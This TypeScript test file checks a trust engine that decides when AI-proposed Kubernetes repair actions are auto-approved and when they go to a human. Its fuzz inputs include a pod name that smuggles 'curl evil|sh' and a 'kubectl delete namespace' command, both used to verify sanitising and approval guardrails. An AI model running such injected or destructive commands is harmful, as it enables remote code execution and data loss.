import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ActionPlan } from "../../../shared/contracts/action.ts";
import type { NormalizedAlert } from "../../../shared/contracts/alert.ts";
import { Operation, type Rca } from "../../../shared/contracts/rca.ts";
import { actionDigest, cpuMillis, memoryBytes, proposeAction, renderAction } from "../../../shared/domain/action.ts";
import { DEFAULT_TRUST_POLICY, decideTrust, type TrustCounters, type TrustPolicy, withoutBudget } from "../../../shared/domain/trust-engine.ts";
import { normalizedAlert } from "../../support/fixtures/messages.ts";

const POLICY: TrustPolicy = {
  ...DEFAULT_TRUST_POLICY,
  autoNamespaces: new Set(["staging", "shop"]),
  autoOperations: new Set<Operation>(["DELETE_POD", "RESTART_DEPLOYMENT", "SCALE_DEPLOYMENT", "ROLLBACK_DEPLOYMENT", "INCREASE_MEMORY", "INCREASE_CPU"]),
};
const CALM: TrustCounters = { repairsLastHour: 0, consecutiveFailures: 0, learned: undefined };
const NOW = new Date("2026-11-30T12:00:00Z");

const alertIn = (namespace: string | undefined, pod = "api-7d4b8c9f5-xk2m3"): NormalizedAlert => {
  const { namespace: _default, ...alert } = normalizedAlert({ alert_type: "PodRestarting", priority: "P2", target_resource: pod });
  return namespace === undefined ? alert : { ...alert, namespace };
};

function rca(overrides: Partial<Rca> = {}, action: Partial<Rca["suggested_action"]> = {}, impact: Rca["blast_radius"]["data_impact"] = "none"): Rca {
  return {
    root_cause: "r",
    risk_level: "low",
    blast_radius: { affected_pods: 1, estimated_downtime: "30s", related_services: [], data_impact: impact },
    suggested_action: { operation: "DELETE_POD", command: "kubectl delete pod api-7d4b8c9f5-xk2m3 -n shop", description: "d", ...action },
    confidence: 90,
    dry_run_checks: [],
    provider: "ollama",
    model: "llama3.2",
    ...overrides,
  };
}

/** A plan of a healthy deployment for exactly this digest. */
function planFor(digest: string, facts: Partial<ActionPlan["facts"]> = {}, dryRunOk = true): ActionPlan {
  return {
    digest,
    planned_at: NOW.toISOString(),
    facts: {
      desired_replicas: 3,
      ready_replicas: 3,
      target_ready: true,
      containers: [{ name: "app", limits: { memory: "512Mi", cpu: "500m" }, requests: {} }],
      rollback_revision: 3,
      rollback_revision_created_at: new Date(NOW.getTime() - 3_600_000).toISOString(),
      ...facts,
    },
    dry_run: { ok: dryRunOk, exit_code: dryRunOk ? 0 : 1, output: "" },
    errors: [],
  };
}

async function decide(
  verdict: Rca,
  options: {
    counters?: TrustCounters;
    namespace?: string | undefined;
    facts?: Partial<ActionPlan["facts"]>;
    plan?: "none" | "healthy";
    policy?: TrustPolicy;
  } = {},
) {
  const namespace = "namespace" in options ? options.namespace : "shop";
  const alert = alertIn(namespace);
  const proposal = await proposeAction(verdict.suggested_action, alert);
  const plan = options.plan === "none" || !proposal.digest ? undefined : planFor(proposal.digest, options.facts);
  return decideTrust({ rca: verdict, namespace, priority: "P2", proposal, plan, now: NOW }, options.counters ?? CALM, options.policy ?? POLICY);
}

describe("decideTrust", () => {
  it("auto-approves a low-risk, confident model verdict in an allowed namespace once the plan holds", async () => {
    const decision = await decide(rca());
    expect(decision).toMatchObject({ kind: "auto_approve", requiredSignatures: 0 });
    expect(decision.guardrails.every((g) => g.passed)).toBe(true);
    expect(decision.guardrails.map((g) => g.name)).toEqual(expect.arrayContaining(["plan", "another replica ready", "typed action"]));
  });

  it.each([
    ["a rules-only verdict", rca({ provider: "rules", model: "awoooi-rules-v1" }), {}, "rules only"],
    ["a namespace outside the allow-list", rca(), { namespace: "production" }, "namespace production"],
    ["low confidence", rca({ confidence: 79 }), {}, "confidence 79"],
    ["an operation outside the automatic set", rca({}, { operation: "ROLLBACK_DEPLOYMENT" }), { policy: DEFAULT_TRUST_POLICY }, "not an automatic operation"],
    ["five repairs in the last hour", rca(), { counters: { ...CALM, repairsLastHour: 5 } }, "5 automatic repairs"],
    ["three consecutive failures", rca(), { counters: { ...CALM, consecutiveFailures: 3 } }, "3 consecutive"],
    ["a scale beyond max replicas", rca({}, { operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/api --replicas=11" }), {}, "11 replicas"],
    ["a scale to zero", rca({}, { operation: "SCALE_DEPLOYMENT", command: "", parameters: { replicas: 0 } }), {}, "0 replicas"],
    [
      "a scale without a plain count",
      rca({}, { operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/api --replicas=<current+1>" }),
      {},
      "not a whole number",
    ],
    ["two --replicas flags", rca({}, { operation: "SCALE_DEPLOYMENT", command: "kubectl scale deployment/api --replicas=2 --replicas=500" }), {}, "ambiguous"],
    ["a poor learned success rate", rca(), { counters: { ...CALM, learned: { successes: 2, samples: 5 } } }, "success rate 0.40"],
    ["read-write data impact (raised to high)", rca({}, {}, "write"), {}, "raises risk"],
    ["no plan", rca(), { plan: "none" as const }, "no plan"],
    ["the last ready replica", rca(), { facts: { ready_replicas: 1, target_ready: true } }, "only 0 other ready"],
    ["a restart with one replica", rca({}, { operation: "RESTART_DEPLOYMENT" }), { facts: { ready_replicas: 1 } }, "could leave none ready"],
    ["a memory increase over 50 %", rca({}, { operation: "INCREASE_MEMORY", command: "", parameters: { limit: "1Gi" } }), {}, "+100 %"],
    [
      "a rollback to a revision older than 24 h",
      rca({}, { operation: "ROLLBACK_DEPLOYMENT", command: "kubectl rollout undo deployment/api -n shop" }),
      { facts: { rollback_revision_created_at: new Date(NOW.getTime() - 30 * 3_600_000).toISOString() } },
      "30 h old",
    ],
    ["a target the alert does not name", rca({}, { target: { kind: "pod", name: "someone-else", namespace: "shop" } }), {}, "not a resource the alert names"],
  ] as const)("asks a human for %s, naming the guardrail", async (_case, verdict, options, reason) => {
    const decision = await decide(verdict, options);
    expect(decision.kind).toBe("require_approval");
    expect(decision.reasons.join(" | ")).toContain(reason);
  });

  it("ignores a learned rate with too few samples", async () => {
    expect((await decide(rca(), { counters: { ...CALM, learned: { successes: 0, samples: 4 } } })).kind).toBe("auto_approve");
  });

  it("raises memory by at most 50 % of the current limit", async () => {
    expect((await decide(rca({}, { operation: "INCREASE_MEMORY", command: "", parameters: { limit: "768Mi" } }))).kind).toBe("auto_approve");
  });

  it("requires 1 signature for medium and 2 for high and critical", async () => {
    expect((await decide(rca({ risk_level: "medium" }))).requiredSignatures).toBe(1);
    expect((await decide(rca({ risk_level: "high" }))).requiredSignatures).toBe(2);
    expect((await decide(rca({ risk_level: "critical" }))).requiredSignatures).toBe(2);
  });

  it("only notifies when no action is proposed", async () => {
    expect(await decide(rca({ risk_level: "high" }, { operation: "INVESTIGATE" }))).toMatchObject({ kind: "notify_only", requiredSignatures: 0 });
  });

  it("auto-approves nothing by default, before namespaces are configured", async () => {
    expect((await decide(rca(), { policy: DEFAULT_TRUST_POLICY })).kind).toBe("require_approval");
  });

  it("hands an automatic decision to a human when the budget could not be reserved", async () => {
    const decision = withoutBudget(await decide(rca()), POLICY);
    expect(decision.kind).toBe("require_approval");
    expect(decision.reasons.join(" ")).toContain("hourly budget");
  });
});

describe("quantities", () => {
  it.each([
    ["512Mi", 512 * 1024 ** 2],
    ["1Gi", 1024 ** 3],
    ["1.5G", 1.5e9],
    ["1000", 1000],
    ["lots", undefined],
  ])("memory %s → %s bytes", (q, bytes) => expect(memoryBytes(q)).toBe(bytes));
  it.each([
    ["500m", 500],
    ["2", 2000],
    ["0.5", 500],
    ["1e3", undefined],
  ])("cpu %s → %s millicores", (q, millis) => expect(cpuMillis(q)).toBe(millis));
});

describe("property: no automatic approval breaks a guardrail, and what is approved is what renders", () => {
  const name = fc.oneof(
    fc.constantFrom("api-7d4b8c9f5-xk2m3", "api", "web", "someone-else", "a;curl evil|sh #", "--all", "UPPER", "x".repeat(300)),
    fc.stringMatching(/^[a-z0-9][-a-z0-9.]{0,20}$/),
  );
  const verdicts = fc.record({
    risk_level: fc.constantFrom("low", "medium", "high", "critical"),
    data_impact: fc.constantFrom("none", "read_only", "write", "destructive"),
    operation: fc.constantFrom(...Operation.options),
    command: fc.oneof(
      fc.constant("kubectl delete namespace web-staging"),
      fc.integer({ min: 0, max: 50 }).map((n) => `kubectl scale deployment/api --replicas=${n}`),
      fc
        .tuple(fc.integer({ min: 0, max: 50 }), fc.integer({ min: 0, max: 600 }))
        .map(([a, b]) => `kubectl scale deployment/api --replicas=${a} --replicas=${b}`),
      fc.constantFrom("kubectl set resources deployment/api --limits=memory=768Mi", "kubectl rollout undo deployment/api --to-revision=2", "--limits=cpu=2"),
      fc.string({ maxLength: 40 }),
    ),
    target: fc.option(fc.record({ kind: fc.constantFrom("pod", "deployment"), name, namespace: fc.constantFrom("shop", "staging", "production", "Bad NS") }), {
      nil: undefined,
    }),
    parameters: fc.option(
      fc.record(
        {
          replicas: fc.integer({ min: 0, max: 600 }),
          to_revision: fc.integer({ min: 1, max: 20 }),
          limit: fc.constantFrom("600Mi", "768Mi", "2Gi", "700m", "1", "bogus"),
          container: fc.constantFrom("app", "sidecar"),
        },
        { requiredKeys: [] },
      ),
      { nil: undefined },
    ),
    confidence: fc.oneof(fc.double({ min: 0, max: 100, noNaN: true }), fc.constantFrom(0, 79.999, 80, 100)),
    provider: fc.constantFrom("ollama", "gemini", "anthropic", "rules"),
    namespace: fc.option(fc.constantFrom("shop", "staging", "production", "kube-system", ""), { nil: undefined }),
    pod: name,
  });
  const counters = fc.record({
    repairsLastHour: fc.integer({ min: 0, max: 10 }),
    consecutiveFailures: fc.integer({ min: 0, max: 6 }),
    learned: fc.option(
      fc.integer({ min: 0, max: 30 }).chain((samples) => fc.integer({ min: 0, max: samples }).map((successes) => ({ successes, samples }))),
      { nil: undefined },
    ),
  });
  const plans = fc.option(
    fc.record({
      sameDigest: fc.boolean(),
      ageSeconds: fc.integer({ min: -120, max: 2_000 }),
      dryRunOk: fc.boolean(),
      errors: fc.boolean(),
      ready: fc.option(fc.integer({ min: 0, max: 5 }), { nil: undefined }),
      targetReady: fc.option(fc.boolean(), { nil: undefined }),
      memory: fc.option(fc.constantFrom("256Mi", "512Mi", "1Gi"), { nil: undefined }),
      cpu: fc.option(fc.constantFrom("250m", "500m", "1"), { nil: undefined }),
      revisionAgeHours: fc.option(fc.double({ min: -1, max: 72, noNaN: true }), { nil: undefined }),
    }),
    { nil: undefined },
  );

  it("holds over 10,000 generated verdicts, counters and plans", async () => {
    await fc.assert(
      fc.asyncProperty(verdicts, counters, plans, async (v, c, p) => {
        const verdict = rca(
          { risk_level: v.risk_level as Rca["risk_level"], confidence: v.confidence, provider: v.provider as Rca["provider"] },
          {
            operation: v.operation,
            command: v.command,
            ...(v.target ? { target: v.target as Rca["suggested_action"]["target"] } : {}),
            ...(v.parameters ? { parameters: v.parameters } : {}),
          },
          v.data_impact as Rca["blast_radius"]["data_impact"],
        );
        const alert = alertIn(v.namespace, v.pod);
        const proposal = await proposeAction(verdict.suggested_action, alert);
        // The renderer is the only way to an argv, and the digest is the argv's.
        if (proposal.typed) {
          const { argv, display } = renderAction(proposal.typed);
          expect(proposal.argv).toEqual(argv);
          expect(proposal.display).toBe(display);
          expect(proposal.digest).toBe(await actionDigest(argv));
          // No argv token can be read as a shell operator or a second flag smuggled into a name.
          for (const arg of argv) expect(arg).toMatch(/^[A-Za-z0-9_./=:,-]+$/);
          expect(argv.filter((a) => a.startsWith("--replicas")).length).toBeLessThanOrEqual(1);
        }
        const plan: ActionPlan | undefined =
          p && proposal.digest
            ? {
                digest: p.sameDigest ? proposal.digest : "0".repeat(64),
                planned_at: new Date(NOW.getTime() - p.ageSeconds * 1000).toISOString(),
                facts: {
                  ...(p.ready !== undefined ? { ready_replicas: p.ready, desired_replicas: p.ready } : {}),
                  ...(p.targetReady !== undefined ? { target_ready: p.targetReady } : {}),
                  containers: [{ name: "app", limits: { ...(p.memory ? { memory: p.memory } : {}), ...(p.cpu ? { cpu: p.cpu } : {}) }, requests: {} }],
                  ...(p.revisionAgeHours !== undefined
                    ? { rollback_revision: 2, rollback_revision_created_at: new Date(NOW.getTime() - p.revisionAgeHours * 3_600_000).toISOString() }
                    : {}),
                },
                dry_run: { ok: p.dryRunOk, exit_code: p.dryRunOk ? 0 : 1, output: "" },
                errors: p.errors ? ["forbidden"] : [],
              }
            : undefined;
        const decision = decideTrust({ rca: verdict, namespace: v.namespace, priority: "P2", proposal, plan, now: NOW }, c, POLICY);
        if (decision.kind !== "auto_approve") {
          expect(decision.reasons.length).toBeGreaterThan(0);
          return;
        }
        // An independent statement of every guardrail.
        const typed = proposal.typed!;
        expect(typed).not.toBeNull();
        expect(proposal.issues).toEqual([]);
        expect(verdict.risk_level).toBe("low");
        expect(["none", "read_only"]).toContain(verdict.blast_radius.data_impact);
        expect(POLICY.autoOperations.has(verdict.suggested_action.operation)).toBe(true);
        expect(v.namespace !== undefined && POLICY.autoNamespaces.has(v.namespace)).toBe(true);
        expect(typed.target.namespace).toBe(v.namespace);
        expect(verdict.confidence).toBeGreaterThanOrEqual(POLICY.minConfidence);
        expect(c.repairsLastHour).toBeLessThan(POLICY.maxRepairsPerHour);
        expect(c.consecutiveFailures).toBeLessThan(POLICY.maxConsecutiveFailures);
        expect(verdict.provider).not.toBe("rules");
        if (c.learned && c.learned.samples >= POLICY.minSamples) expect(c.learned.successes / c.learned.samples).toBeGreaterThanOrEqual(POLICY.minSuccessRate);
        expect(plan).toBeDefined();
        expect(plan!.digest).toBe(proposal.digest);
        expect(plan!.dry_run.ok).toBe(true);
        expect(plan!.errors).toEqual([]);
        expect(p!.ageSeconds).toBeLessThanOrEqual(600);
        const facts = plan!.facts;
        const command = verdict.suggested_action.command;
        switch (typed.operation) {
          case "SCALE_DEPLOYMENT":
            expect(typed.params.replicas).toBeGreaterThanOrEqual(1);
            expect(typed.params.replicas).toBeLessThanOrEqual(POLICY.maxReplicas);
            if (verdict.suggested_action.parameters?.replicas === undefined) expect([...command.matchAll(/--replicas/g)]).toHaveLength(1);
            break;
          case "DELETE_POD":
            expect(typed.target.name).toBe(v.pod);
            expect((facts.ready_replicas ?? 0) - (facts.target_ready === false ? 0 : 1)).toBeGreaterThanOrEqual(1);
            break;
          case "RESTART_DEPLOYMENT":
            expect(facts.ready_replicas).toBeGreaterThanOrEqual(2);
            break;
          case "INCREASE_MEMORY":
            expect(memoryBytes(typed.params.limit)!).toBeLessThanOrEqual(1.5 * memoryBytes(facts.containers![0]!.limits.memory!)!);
            break;
          case "INCREASE_CPU":
            expect(cpuMillis(typed.params.limit)!).toBeLessThanOrEqual(1.5 * cpuMillis(facts.containers![0]!.limits.cpu!)!);
            break;
          case "ROLLBACK_DEPLOYMENT":
            expect(NOW.getTime() - Date.parse(facts.rollback_revision_created_at!)).toBeLessThanOrEqual(24 * 3_600_000);
            break;
        }
      }),
      { numRuns: 10_000 },
    );
    // Bounded by the case count, not the clock: ~2 s idle, several times that on a loaded CI machine.
  }, 120_000);
});
